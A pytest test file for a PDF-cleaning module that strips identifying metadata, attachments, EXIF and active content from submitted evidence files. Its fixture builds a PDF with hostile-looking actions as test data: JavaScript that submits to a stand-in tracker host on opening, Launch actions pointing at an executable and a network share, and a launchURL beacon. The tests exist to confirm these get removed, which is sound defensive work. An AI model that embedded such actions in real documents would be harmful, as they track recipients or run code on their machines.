"""evidence.pdf: the less visible carriers of a PDF (attachments, XMP below the page, thumbnails,
JPEG pictures' EXIF, scripts and actions that run on opening, signatures) are gone; links, form
fields and pictures stay and still open."""

from __future__ import annotations

import io

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from evidence.clean import UNREADABLE, CannotClean, clean
from evidence.pdf import UnsafePdf, clean_pdf, strip_jpeg
from testing import evidence_samples as samples

XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>Nguyen Van A</dc:creator>'
       b"</x:xmpmeta>")


def _name(value: str) -> NameObject:
    return NameObject(value)


def _xmp(writer: PdfWriter):  # type: ignore[no-untyped-def]
    stream = DecodedStreamObject()
    stream.set_data(XMP)
    stream.update({_name("/Type"): _name("/Metadata"), _name("/Subtype"): _name("/XML")})
    return writer._add_object(stream)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value  # type: ignore[assignment]
    return action


def _jpeg_image(writer: PdfWriter):  # type: ignore[no-untyped-def]
    """An image XObject whose stream is a phone JPEG, EXIF, XMP and comment included."""
    jpeg = samples.jpeg_with_exif(size=(16, 8))
    image = StreamObject()
    image._data = jpeg + b"TRAILING-Nguyen Van A motion photo"
    image.update({
        _name("/Type"): _name("/XObject"), _name("/Subtype"): _name("/Image"),
        _name("/Width"): NumberObject(16), _name("/Height"): NumberObject(8),
        _name("/ColorSpace"): _name("/DeviceRGB"), _name("/BitsPerComponent"): NumberObject(8),
        _name("/Filter"): _name("/DCTDecode"), _name("/Metadata"): _xmp(writer),
    })  # fmt: skip
    return writer._add_object(image)


def pdf_with_every_carrier() -> bytes:
    """One page carrying each kind of identifying or active content a PDF can hold."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.pdf_with_author())))
    page = writer.pages[0]
    writer.add_attachment("Nguyen_Van_A_original.docx", b"attached docx by Nguyen Van A")
    root = writer.root_object
    root[_name("/AF")] = ArrayObject([writer._add_object(DictionaryObject({
        _name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("Nguyen_AF.txt")}))])
    root[_name("/Collection")] = DictionaryObject({_name("/View"): _name("/D")})
    root[_name("/OpenAction")] = _action("/JavaScript", JS=TextStringObject(
        "this.submitForm('http://tracker.example/?who=officer')"))
    root[_name("/AA")] = DictionaryObject({_name("/WC"): _action("/Launch", F=TextStringObject(
        "C:\\Users\\NguyenVanA\\run.exe"))})
    names = root["/Names"].get_object()
    names[_name("/JavaScript")] = DictionaryObject({_name("/Names"): ArrayObject([
        TextStringObject("x"), _action("/JavaScript", JS=TextStringObject("app.alert(1)"))])})
    # A page thumbnail, and an XMP on a form XObject.
    thumb = DecodedStreamObject()
    thumb.set_data(bytes(12))
    thumb.update({_name("/Width"): NumberObject(2), _name("/Height"): NumberObject(2),
                  _name("/ColorSpace"): _name("/DeviceRGB"),
                  _name("/BitsPerComponent"): NumberObject(8), _name("/Metadata"): _xmp(writer)})
    page[_name("/Thumb")] = writer._add_object(thumb)
    page[_name("/AA")] = DictionaryObject({_name("/O"): _action("/URI", URI=TextStringObject(
        "http://tracker.example/opened"))})
    page[_name("/PieceInfo")] = DictionaryObject({_name("/Word"): DictionaryObject({
        _name("/Private"): TextStringObject("Nguyen Van A")})})
    form = DecodedStreamObject()
    form.set_data(b"q /Im1 Do Q")
    form.update({_name("/Type"): _name("/XObject"), _name("/Subtype"): _name("/Form"),
                 _name("/BBox"): ArrayObject([NumberObject(0)] * 4),
                 _name("/Metadata"): _xmp(writer)})
    page[_name("/Resources")] = DictionaryObject({_name("/XObject"): DictionaryObject({
        _name("/Im1"): _jpeg_image(writer), _name("/Fm1"): writer._add_object(form)})})
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(10), FloatObject(10)])
    embedded = DecodedStreamObject()
    embedded.set_data(b"second attachment by Nguyen Van A")
    embedded[_name("/Type")] = _name("/EmbeddedFile")
    attachment_spec = DictionaryObject({
        _name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("Nguyen_note.txt"),
        _name("/EF"): DictionaryObject({_name("/F"): writer._add_object(embedded)})})
    file_annotation = writer._add_object(DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/FileAttachment"),
        _name("/Rect"): rect, _name("/FS"): writer._add_object(attachment_spec),
        _name("/T"): TextStringObject("Nguyen Van A")}))
    popup = DictionaryObject({_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Popup"),
                              _name("/Rect"): rect, _name("/Parent"): file_annotation})
    web_link = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect,
        _name("/A"): _action("/URI", URI=TextStringObject("https://example.vn/tin-tuc"))})
    launch_link = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Link"), _name("/Rect"): rect,
        _name("/A"): _action("/Launch", F=TextStringObject("\\\\10.0.0.9\\share\\Nguyen"))})
    field = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Widget"),
        _name("/FT"): _name("/Tx"), _name("/Rect"): rect,
        _name("/T"): TextStringObject("bien_so"), _name("/V"): TextStringObject("75A-123.45"),
        _name("/AA"): DictionaryObject({_name("/Fo"): _action("/JavaScript", JS=TextStringObject(
            "app.launchURL('http://tracker.example/focus')"))})})
    signature = DictionaryObject({
        _name("/Type"): _name("/Sig"), _name("/Name"): TextStringObject("Nguyen Van A"),
        _name("/ByteRange"): ArrayObject([NumberObject(0)] * 4),
        _name("/Contents"): TextStringObject("certificate of Nguyen Van A")})
    signature_field = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/Widget"),
        _name("/FT"): _name("/Sig"), _name("/Rect"): rect, _name("/T"): TextStringObject("ky"),
        _name("/V"): writer._add_object(signature)})
    annotations = page["/Annots"]
    for annotation in (file_annotation, popup, web_link, launch_link, field, signature_field):
        annotations.append(annotation if hasattr(annotation, "idnum")
                           else writer._add_object(annotation))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_loses_attachments_scripts_thumbnails_signatures_and_inner_xmp() -> None:
    original = pdf_with_every_carrier()
    assert list(PdfReader(io.BytesIO(original)).attachments) == ["Nguyen_Van_A_original.docx"]
    assert b"Exif" in original and b"tracker" in original
    result = clean(original, "bao-cao.pdf", "application/pdf")
    data = result.data
    samples.assert_clean(data)
    for giveaway in (b"Nguyen", b"tracker", b"/JavaScript", b"/EmbeddedFile",
                     b"/Launch", b"/Thumb", b"/PieceInfo", b"/ByteRange", b"Exif", b"TRAILING",
                     b"/OpenAction", b"/Collection", b"/AF", b"/AA ", b"xmpmeta"):
        assert giveaway not in data, giveaway
    reader = PdfReader(io.BytesIO(data))
    assert reader.attachments == {}
    page = reader.pages[0]
    annotations = [a.get_object() for a in page["/Annots"]]
    subtypes = [a["/Subtype"] for a in annotations]
    assert subtypes == ["/Text", "/Link", "/Link", "/Widget", "/Widget"]
    # What the resident meant to send stays: the web link, the field's name and value, the note.
    assert annotations[1]["/A"]["/URI"] == "https://example.vn/tin-tuc"
    assert "/A" not in annotations[2]  # the launch is gone, the link's area stays
    assert annotations[3]["/T"] == "bien_so" and annotations[3]["/V"] == "75A-123.45"
    assert annotations[4]["/T"] == "ky" and "/V" not in annotations[4]
    assert annotations[0]["/Contents"] == "xem trang 2"
    # The picture is the same picture, without its EXIF.
    image = page["/Resources"]["/XObject"]["/Im1"].get_object()
    with Image.open(io.BytesIO(image._data)) as picture:
        assert picture.size == (16, 8)
        assert dict(picture.getexif()) == {} and "comment" not in picture.info
        picture.load()


def test_the_probe_pdf_of_the_review_loses_its_attachment() -> None:
    """The reviewer's case: an attachment through pypdf's add_attachment."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.pdf_with_author())))
    writer.add_attachment("Nguyen_Van_A_original.docx", samples.docx_with_author())
    out = io.BytesIO()
    writer.write(out)
    cleaned = clean_pdf(out.getvalue())
    assert PdfReader(io.BytesIO(cleaned)).attachments == {}
    samples.assert_clean(cleaned)
    assert b"PK\x03\x04" not in cleaned and b"docProps" not in cleaned


def test_strip_jpeg_keeps_the_picture_byte_for_byte() -> None:
    original = samples.jpeg_with_exif(size=(24, 12))
    stripped = strip_jpeg(original + b"appended video")
    assert b"Exif" not in stripped and b"xmpmeta" not in stripped
    assert samples.PERSON.encode() not in stripped and stripped.endswith(b"\xff\xd9")
    assert strip_jpeg(stripped) == stripped
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(stripped)) as after:
        assert before.tobytes() == after.tobytes()
    for broken in (b"", b"\xff\xd8", b"\xff\xd8\xff\xe1\x00", b"\xff\xd8\x00\x00", b"GIF89a"):
        with pytest.raises(ValueError):
            strip_jpeg(broken)


def test_a_pdf_with_an_unreadable_jpeg_is_refused_not_sent_half_cleaned() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(10, 10)
    image = StreamObject()
    image._data = b"\xff\xd8\xff\xe1\xff\xff Exif of Nguyen Van A"
    image.update({_name("/Subtype"): _name("/Image"), _name("/Filter"): _name("/DCTDecode")})
    page[_name("/Resources")] = DictionaryObject({_name("/XObject"): DictionaryObject({
        _name("/Im1"): writer._add_object(image)})})
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(UnsafePdf):
        clean_pdf(out.getvalue())
    with pytest.raises(CannotClean) as caught:
        clean(out.getvalue(), "x.pdf", "application/pdf")
    assert caught.value.reason == UNREADABLE


def test_a_pdf_declaring_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    import evidence.pdf

    monkeypatch.setattr(evidence.pdf, "MAX_OBJECTS", 3)
    with pytest.raises(UnsafePdf):
        clean_pdf(pdf_with_every_carrier())
    monkeypatch.setattr(evidence.pdf, "MAX_OBJECTS", 10_000)
    monkeypatch.setattr(evidence.pdf, "MAX_NODES", 5)
    with pytest.raises(UnsafePdf):
        clean_pdf(pdf_with_every_carrier())
